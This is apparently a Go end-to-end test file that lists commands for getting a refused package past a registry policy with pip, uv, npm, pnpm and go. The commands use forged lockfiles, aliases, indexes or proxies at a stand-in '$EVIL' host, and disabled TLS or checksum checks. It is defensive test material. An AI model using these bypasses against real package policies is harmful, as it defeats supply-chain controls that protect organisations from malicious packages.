package e2e

// bypassFamily is the clients of one ecosystem and the bypasses that concern them.
type bypassFamily struct {
	name     string
	wanted   string // a package that the refusing policy allows
	before   string // a script that gets it
	bypasses []bypass
}

func bypassFamilies() []bypassFamily {
	return []bypassFamily{
		{"python", "wanted", "pip install -q --no-cache-dir wanted", pythonBypasses()},
		{"node", "wanted", "npm install wanted", nodeBypasses()},
		{"go", "wanted.example/lib", "go mod init x && go get wanted.example/lib", goBypasses()},
	}
}

// byHand are requests that no client sends, of all that a registry has of the
// package.
func byHand(paths string) bypass {
	return bypass{"15 16 17 20", "requests by hand", "python3 /bypasses/byhand.py $HOST " + paths, true}
}

func pythonBypasses() []bypass {
	return []bypass{
		{"1", "its address", "pip install $URL", true},
		{"1", "its address in a requirement", "echo \"$PKG @ $URL\" >r.txt; uv pip install -r r.txt", true},
		{"8", "a requirement with its hash", "echo \"$PKG==$VERSION --hash=sha256:$SHA256\" >r.txt; pip install --require-hashes -r r.txt", true},
		{"2", "a repository", "uv pip install git+https://$EVIL/x.git", false},
		{"3", "another index", "pip install --index-url https://$EVIL/simple/ $PKG", false},
		{"3", "one index more", "pip install --extra-index-url https://$EVIL/simple/ $PKG", true},
		{"3", "links on a page", "PIP_FIND_LINKS=https://$EVIL/links.html pip install --no-index $PKG", false},
		{"3", "links on the registry's page", "uv pip install --no-index --find-links https://$HOST/simple/$PKG/ $PKG", true},
		{"4", "the index by a file", "mkdir -p ~/.config/pip; printf '[global]\\nindex-url = https://%s/simple/\\n' $EVIL >~/.config/pip/pip.conf; env -u PIP_INDEX_URL pip install $PKG; rm ~/.config/pip/pip.conf", false},
		{"5", "no certificates", "pip install --trusted-host $HOST --cert /dev/null --index-url https://$HOST/simple/ $PKG", false},
		{"5", "no TLS", "uv pip install --allow-insecure-host $HOST --index-url http://$HOST/simple/ $PKG; uv pip install --allow-insecure-host $HOST $PKG", true},
		{"4", "a proxy", "HTTPS_PROXY=http://$EVIL:8080 uv pip install $PKG", false},
		{"15", "another spelling", "uv pip install --index-url https://$HOST//simple/ $PKG; pip install $(echo $PKG | sed 's/quarry/QUARRY/')", true},
		{"3", "uv and an index of the project", "printf '[project]\\nname = \"x\"\\nversion = \"0\"\\nrequires-python = \">=3.8\"\\ndependencies = [\"%s\"]\\n[[tool.uv.index]]\\nurl = \"https://%s/simple/\"\\n' $PKG $EVIL >pyproject.toml; uv sync", false},
		{"8", "uv and a lockfile that points at it", `printf '[project]\nname = "x"\nversion = "0"\nrequires-python = ">=3.8"\ndependencies = ["%s"]\n' $PKG >pyproject.toml
printf 'version = 1\nrequires-python = ">=3.8"\n[[package]]\nname = "x"\nversion = "0"\nsource = { virtual = "." }\ndependencies = [{ name = "%s" }]\n[package.metadata]\nrequires-dist = [{ name = "%s" }]\n[[package]]\nname = "%s"\nversion = "%s"\nsource = { registry = "https://%s/simple" }\nwheels = [{ url = "%s", hash = "sha256:%s" }]\n' $PKG $PKG $PKG $VERSION $HOST $URL $SHA256 >uv.lock
env -u VIRTUAL_ENV uv sync --frozen`, true},
		{"14", "uvx", "uvx --from $PKG python3 -c 'import sys'", true},
		{"6", "a cache of its own", "uv pip install --offline $PKG; uv pip install --no-index --find-links ~/.cache $PKG; uv pip install --refresh $PKG", true},
		byHand("$FILE $FILE.metadata $FILE.asc $FILE.provenance /simple/$PKG/"),
	}
}

func nodeBypasses() []bypass {
	const lock = `{"name":"x","version":"0.0.0","lockfileVersion":3,"packages":{"":{"name":"x","version":"0.0.0","dependencies":{"%s":"1.0.0"}},"node_modules/%s":{"version":"1.0.0","resolved":"%s","integrity":"%s"}}}`
	return []bypass{
		{"1", "its address", "npm install $URL", true},
		{"10", "an alias", "npm install innocent@npm:$PKG@1.0.0", true},
		{"10", "an override", `printf '{"dependencies":{"wanted":"1.0.0"},"overrides":{"helper":"npm:%s@1.0.0"}}' $PKG >package.json; npm install`, true},
		{"2", "a repository", "GIT_TERMINAL_PROMPT=0 npm install git+https://$EVIL/x.git", false},
		{"3 4", "a registry of the project", "echo {} >package.json; echo registry=https://$EVIL/ >.npmrc; env -u npm_config_registry npm install $PKG", false},
		{"3 4", "a registry of the command", "npm install --registry https://$EVIL/ $PKG", false},
		{"5", "no certificates", "NODE_TLS_REJECT_UNAUTHORIZED=0 npm install --strict-ssl=false $PKG", true},
		{"8", "a lockfile that points at it", "printf '" + lock + "' $PKG $PKG $URL $INTEGRITY >package-lock.json; printf '{\"name\":\"x\",\"version\":\"0.0.0\",\"dependencies\":{\"%s\":\"1.0.0\"}}' $PKG >package.json; npm ci", true},
		{"9", "a lockfile in which it has another name", "printf '" + lock + "' wanted wanted $URL $INTEGRITY >package-lock.json; printf '{\"name\":\"x\",\"version\":\"0.0.0\",\"dependencies\":{\"wanted\":\"1.0.0\"}}' >package.json; npm ci", true},
		{"14", "npx", "npx --yes $PKG", true},
		{"14", "pnpm dlx", "pnpm dlx $PKG", true},
		{"8", "pnpm and a lockfile that points at it", `printf '{"name":"x","dependencies":{"%s":"1.0.0"}}' $PKG >package.json
printf "lockfileVersion: '9.0'\nsettings:\n  autoInstallPeers: true\n  excludeLinksFromLockfile: false\nimporters:\n  .:\n    dependencies:\n      %s:\n        specifier: 1.0.0\n        version: 1.0.0\npackages:\n  %s@1.0.0:\n    resolution: {integrity: %s, tarball: %s}\nsnapshots:\n  %s@1.0.0: {}\n" $PKG $PKG $INTEGRITY $URL $PKG >pnpm-lock.yaml
pnpm install --frozen-lockfile`, true},
		{"6", "a cache of its own", "npm install --prefer-offline $PKG", true},
		byHand("$FILE /$PKG /$PKG/latest /-/package/$PKG/dist-tags /-/npm/v1/attestations/$PKG@1.0.0"),
	}
}

func goBypasses() []bypass {
	const begin = "go mod init x 2>/dev/null; "
	return []bypass{
		{"8", "its zip", begin + "go get $PKG", true},
		{"2 11", "past the proxy", begin + "GOPROXY=direct GOVCS=*:all go get $PKG", false},
		{"11", "as a private module", begin + "GOPRIVATE=* GOVCS=*:all GONOPROXY=* GONOSUMDB=* go get $PKG", false},
		{"4", "another proxy first", begin + "GOPROXY=https://$EVIL,https://$HOST go get $PKG", false},
		{"4", "another proxy by a file", begin + "go env -w GOPROXY=https://$EVIL; env -u GOPROXY go get $PKG; go env -u GOPROXY", false},
		{"5 11", "insecurely", begin + "GOINSECURE=* GOFLAGS=-insecure go get $PKG; GOINSECURE=* GONOSUMDB=* GOPROXY=http://$HOST go get $PKG; GOINSECURE=* GONOSUMDB=* go get $PKG", true},
		{"11", "without the checksum database", begin + "GOSUMDB=off go get $PKG@$VERSION", true},
		{"11", "in the place of another", begin + `go mod edit -require=wanted.example/lib@v1.0.0 -replace=wanted.example/lib=$PKG@$VERSION
printf 'package x\nimport _ "wanted.example/lib/lib"\n' >x.go; GOFLAGS=-mod=mod go build ./...; go mod download all`, true},
		{"14", "go run", "go run $PKG@latest", true},
		{"8", "with its sum", begin + "go mod edit -require=$PKG@$VERSION; echo \"$PKG $VERSION $SUM\" >go.sum; GOFLAGS=-mod=mod go mod download $PKG@$VERSION", true},
		{"6", "a cache of its own", begin + "GOPROXY=file://$HOME/go/pkg/mod/cache/download,https://$HOST go get $PKG", true},
		byHand("$FILE ${FILE%.zip}.mod ${FILE%.zip}.info ${FILE%/*}/list ${FILE%/@v/*}/@latest /sumdb/sum.example/lookup${FILE%/@v/*}@$VERSION"),
	}
}
